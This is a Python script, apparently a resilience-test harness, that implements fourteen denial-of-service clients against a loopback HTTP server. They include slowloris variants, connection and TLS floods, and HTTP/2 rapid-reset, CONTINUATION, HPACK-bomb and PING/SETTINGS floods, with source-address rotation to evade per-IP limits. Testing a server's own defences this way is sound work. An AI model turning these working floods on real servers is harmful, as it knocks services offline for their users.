"""Clients that mean harm, one kind to a function. Run by http_attacks.py, each in a process of its own:

    python scripts/attackers.py NAME --port P --host H --big HOST --style PATH --token T --seconds N [--connections N] [--maker 0/4]

They come from many addresses of the loopback (127.x.y.z), so that no limit for one address ends them early. Each keeps at it until
its time is over, coming back whenever it was shown the door. --maker i/n: this process is one of n that share the connections. The
last line printed is JSON: how many connections, how many at once at most, how many were refused, how many streams or frames, and
when (time.monotonic) as many had come in as there are to be.
"""

import argparse
import asyncio
import collections
import itertools
import json
import resource
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
#: Connections at the same time of each flood over HTTP/2.
FLOODS = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK as it is; longer than 126 bytes takes a second byte or more (RFC 7541, section 5.1)."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, [127]
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes([*out, rest]) + value


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


class Attack:
    def __init__(self, options):
        self.options = options
        self.end = time.monotonic() + options.seconds
        self.counts = collections.Counter()
        self.maker, self.makers = map(int, options.maker.split("/"))
        self.addresses = (f"127.{self.maker + 1}.{n // 250 % 250}.{n % 250 + 1}" for n in itertools.count())
        self.open = self.came_in = self.wanted = 0
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.h2 = ssl.create_default_context()
        self.h2.check_hostname = False
        self.h2.verify_mode = ssl.CERT_NONE
        self.h2.set_alpn_protocols(["h2"])

    @property
    def goes_on(self):
        return time.monotonic() < self.end

    async def connect(self, context, **options):
        place = socket.socket()
        place.setblocking(False)
        if "buffer" in options:
            place.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, options["buffer"])
        place.bind((next(self.addresses), 0))
        await asyncio.get_running_loop().sock_connect(place, ("127.0.0.1", self.options.port))
        self.counts["connections"] += 1
        secure = {"ssl": context, "server_hostname": "localhost", "ssl_handshake_timeout": 60, "limit": 4096} if context else {}
        streams = await asyncio.open_connection(sock=place, **secure)
        self.came_in += 1
        if self.came_in == self.wanted:
            self.counts["all_in_at"] = time.monotonic()
        return streams

    async def many(self, one, connections):
        """So many at once, begun little by little; who is thrown out comes again."""
        connections = min(connections, self.options.connections or connections)
        # Faster, and they would be in each other's way: those who are let in too late begin anew.
        coming = min(self.options.seconds / 2, connections / 500)
        self.wanted = connections = max(1, connections // self.makers)

        async def again(number):
            await asyncio.sleep(number / connections * coming)
            while self.goes_on:
                self.open += 1
                self.counts["at_once"] = max(self.counts["at_once"], self.open)
                try:
                    await asyncio.wait_for(one(), max(0.1, self.end - time.monotonic()))
                except (OSError, EOFError, ssl.SSLError, asyncio.IncompleteReadError):  # a time-out is an OSError
                    if not self.goes_on:
                        return
                    self.counts["refused"] += 1
                    await asyncio.sleep(0.05)
                finally:
                    self.open -= 1
        await asyncio.gather(*(again(number) for number in range(connections)))

    # HTTP/1.1

    async def trickle(self, beginning, drop, every):
        reader, writer = await self.connect(self.context)
        try:
            writer.write(beginning)
            while self.goes_on:
                writer.write(drop)
                await writer.drain()
                try:
                    if not await asyncio.wait_for(reader.read(4096), every):
                        raise EOFError
                except asyncio.TimeoutError:
                    pass
        finally:
            writer.close()

    async def slow_headers(self):
        head = f"GET / HTTP/1.1\r\nHost: {self.options.host}\r\nX-A: ".encode()
        await self.many(lambda: self.trickle(head, b"a", 1), 2000)

    async def slow_bodies(self):
        head = f"POST /login HTTP/1.1\r\nHost: {self.options.host}\r\nContent-Length: 100000\r\n"
        head += "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
        await self.many(lambda: self.trickle(head.encode(), b"a", 1), 2000)

    async def slow_readers(self):
        """Whoever asks for a lot has to be somebody: a member of the course."""
        request = f"GET /big HTTP/1.1\r\nHost: {self.options.big}\r\nAuthorization: Bearer {self.options.token}\r\n\r\n".encode()
        await self.many(lambda: self.read_nothing(request), 10_000)

    async def slow_strangers(self):
        """Whoever asks for little, and reads none of it, may be nobody: pages and files of the console, many on one connection."""
        request = f"GET {self.options.style} HTTP/1.1\r\nHost: {self.options.host}\r\n\r\n".encode() * 40
        await self.many(lambda: self.read_nothing(request), 10_000)

    async def read_nothing(self, request):
        reader, writer = await self.connect(self.context, buffer=4096)
        try:
            writer.transport.pause_reading()
            writer.write(request)
            await asyncio.sleep(max(0, self.end - time.monotonic()))
        finally:
            writer.transport.abort()

    async def header_bomb(self):
        lines = "".join(f"X-{n}: {'a' * 100}\r\n" for n in range(5000)).encode()

        async def one():
            reader, writer = await self.connect(self.context)
            try:
                writer.write(f"GET / HTTP/1.1\r\nHost: {self.options.host}\r\n".encode() + lines + b"\r\n")
                await reader.read(1)
            finally:
                writer.transport.abort()
        await self.many(one, 64)

    # Connections

    async def connection_flood(self):
        async def one():
            _, writer = await self.connect(None)
            writer.transport.abort()
        await self.many(one, 16)

    async def slow_handshakes(self):
        hello = bytes.fromhex("1603010200010001fc0303") + bytes(40)

        async def one():
            reader, writer = await self.connect(None)
            try:
                writer.write(hello)
                if not await reader.read(1):
                    raise EOFError
            finally:
                writer.transport.abort()
        await self.many(one, 4000)

    async def tls_handshakes(self):
        """Whole handshakes, and nothing else."""
        async def one():
            _, writer = await self.connect(self.context)
            writer.transport.abort()
        await self.many(one, 16)

    # HTTP/2

    def block(self, path=None):
        return b"\x82\x87" + literal(":path", path or "/") + literal(":authority", self.options.host)

    async def with_h2(self, attack, connections, settings=b""):
        async def one():
            reader, writer = await self.connect(self.h2)
            try:
                writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
                await attack(reader, writer)
                while await reader.read(65536):
                    pass
                raise EOFError
            finally:
                writer.transport.abort()
        await self.many(one, connections)

    async def flood(self, writer, pieces, count=1):
        """- count: of frames or streams in one piece, for the report."""
        for piece in pieces:
            if not self.goes_on:
                return
            # What was thrown out is not noticed by writing.
            if writer.transport.is_closing():
                raise EOFError
            writer.write(piece)
            self.counts["pieces"] += count
            await writer.drain()
            await asyncio.sleep(0)

    async def rapid_reset(self):
        block = self.block()

        async def attack(_, writer):
            streams = range(1, 1 << 20, 200)
            await self.flood(writer, (
                b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block) + frame(RESET, 0, n, struct.pack(">I", 8))
                         for n in range(first, first + 200, 2))
                for first in streams), 100)
        await self.with_h2(attack, FLOODS)

    async def continuation_flood(self):
        async def attack(_, writer):
            writer.write(frame(HEADERS, END_STREAM, 1, self.block()))
            await self.flood(writer, (
                frame(CONTINUATION, 0, 1, literal(f"x-{n}", "a" * 8000)) for n in range(1 << 20)))
        await self.with_h2(attack, FLOODS)

    async def hpack_bomb(self):
        """One large field is remembered, and then meant again and again by single bytes."""
        async def attack(_, writer):
            writer.write(frame(HEADERS, END_STREAM | END_HEADERS, 1, self.block() + literal("x", "a" * 3900, indexed=True)))
            await self.flood(writer, (
                frame(HEADERS, END_STREAM | END_HEADERS, n, self.block() + b"\xbe" * 16000) for n in range(3, 1 << 16, 2)))
        await self.with_h2(attack, FLOODS)

    async def window_zero(self):
        async def attack(_, writer):
            block = self.block(self.options.style)
            writer.write(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block) for n in range(1, 199, 2)))
            self.counts["pieces"] += 99
        await self.with_h2(attack, 1000, settings=struct.pack(">HI", 4, 0))

    async def ping_flood(self):
        async def attack(_, writer):
            await self.flood(writer, (frame(PING, 0, 0, bytes(8)) * 100 for _ in range(1 << 16)), 100)
        await self.with_h2(attack, FLOODS)

    async def settings_flood(self):
        async def attack(_, writer):
            await self.flood(writer, (frame(SETTINGS, 0, 0) * 100 for _ in range(1 << 16)), 100)
        await self.with_h2(attack, FLOODS)


#: In the order of the report.
NAMES = ["slow_headers", "slow_bodies", "slow_readers", "slow_strangers", "header_bomb", "connection_flood", "slow_handshakes",
         "tls_handshakes", "rapid_reset", "continuation_flood", "hpack_bomb", "window_zero", "ping_flood", "settings_flood"]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=NAMES)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--style", default="/assets/bedel.css")
    parser.add_argument("--big", required=True)
    parser.add_argument("--token", required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--connections", type=int)
    parser.add_argument("--maker", default="0/1")
    options = parser.parse_args()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack = Attack(options)
    asyncio.run(getattr(attack, options.name)())
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    main()
